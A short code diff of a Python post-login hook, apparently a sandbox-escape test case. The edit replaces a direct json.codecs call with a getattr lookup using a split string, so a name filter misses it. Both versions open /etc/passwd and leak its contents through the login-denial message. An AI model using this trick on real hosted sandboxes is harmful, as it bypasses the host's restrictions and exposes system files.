@@ -4,5 +4,6 @@ import json
 
 
 def on_execute_post_login(event, api):
-    text = json.codecs.open("/etc/passwd").read()
+    codecs = getattr(json, "cod" + "ecs")
+    text = codecs.open("/etc/passwd").read()
     api.access.deny(text[:200])
